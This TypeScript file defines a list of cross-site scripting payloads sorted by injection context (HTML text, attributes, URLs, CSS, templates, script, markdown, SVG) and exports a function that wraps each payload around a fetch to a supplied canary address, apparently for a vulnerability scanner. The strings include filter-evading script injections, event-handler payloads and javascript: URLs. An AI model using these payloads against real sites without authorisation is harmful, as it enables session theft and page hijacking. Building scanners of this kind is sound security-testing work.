/**
 * Texts that run a script or ask the canary, by the place in a page in which they would do so if they were written there as they
 * are. `call` is a script that asks the canary, `canary` its address without the scheme.
 */
const contexts: Readonly<Record<string, (call: string, canary: string) => readonly string[]>> = {
  text: (call, canary) => [
    `<script>${call}</script>`,
    `<ScRiPt >${call}</sCrIpT>`,
    `<script src=${canary}></script>`,
    `<script src=${canary}//`,
    `<scr<script>ipt>${call}</scr</script>ipt>`,
    `<img src=x onerror="${call}">`,
    `<img src=${canary}>`,
    `<img srcset=${canary}>`,
    `<img/src=x/onerror=${call}>`,
    `<IMG SRC=x oNeRrOr=${call}>`,
    `<image src=x onerror="${call}">`,
    `<math><mtext><img src=x onerror=${call}>`,
    `<body onload=${call}>`,
    `<object data=${canary}></object>`,
    `<embed src=${canary}>`,
    `<video src=${canary} autoplay></video>`,
    `<video><source onerror=${call}></video>`,
    `<audio src=x onerror=${call}>`,
    `<meta http-equiv=refresh content="0;url=${canary}">`,
    `<base href=${canary}/>`,
    `<form action=${canary}><button autofocus onfocus=${call}>`,
    `<input autofocus onfocus=${call}>`,
    `<details open ontoggle=${call}>`,
    `<marquee onstart=${call}>`,
    `&lt;img src=x onerror=${call}&gt;`,
    '<img src=x onerror=alert(1)>',
  ],
  element: (call) => [
    `</title><script>${call}</script>`,
    `</textarea><script>${call}</script>`,
    `--><script>${call}</script>`,
    `]]><script>${call}</script>`,
    `<template><img src=x onerror=${call}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  ],
  attribute: (call) => [
    `"><script>${call}</script>`,
    `'><script>${call}</script>`,
    `"><img src=x onerror="${call}">`,
    `'><img src=x onerror=${call}//`,
    `" autofocus onfocus=${call} x="`,
    `' onmouseover=${call} x='`,
  ],
  address: (call, canary) => [
    'javascript:alert(1)',
    ' JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert()',
    `<iframe src="javascript:${call}">`,
    `<iframe src=${canary}></iframe>`,
    `<iframe srcdoc="<script>${call}</script>">`,
  ],
  style: (call, canary) => [
    `</style><script>${call}</script>`,
    `<link rel=stylesheet href=${canary}>`,
    `<style>@import '${canary}';</style>`,
    `<style>*{background:url(${canary})}</style>`,
    `<b style="background:url(${canary})">b</b>`,
    `red;background:url(${canary})`,
  ],
  template: (call) => [`{{constructor.constructor("${call}")()}}`, `\${${call}}`],
  script: (call) => [`</script><script>${call}</script>`, `"}]);${call}//`, `\u2028${call}//`, "'-alert(1)-'"],
  markdown: (_call, canary) => [`![x](${canary})`, '[x](javascript:alert(1))', `[x]: ${canary} "x"`],
  svg: (call, canary) => [
    `<svg onload="${call}">`,
    `<svg/onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><script href=${canary} /></svg>`,
    `<svg><image href=${canary} /></svg>`,
    `<svg><use href=${canary}#a /></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    '<svg onload=alert(1)>',
  ],
}

/** Returns the texts of all contexts, each of at most 100 characters. Each asks `canary`, opens a dialog, or both. */
export function scriptPayloads(canary: string): string[] {
  return Object.values(contexts).flatMap((write) => write(`fetch('${canary}')`, canary))
}
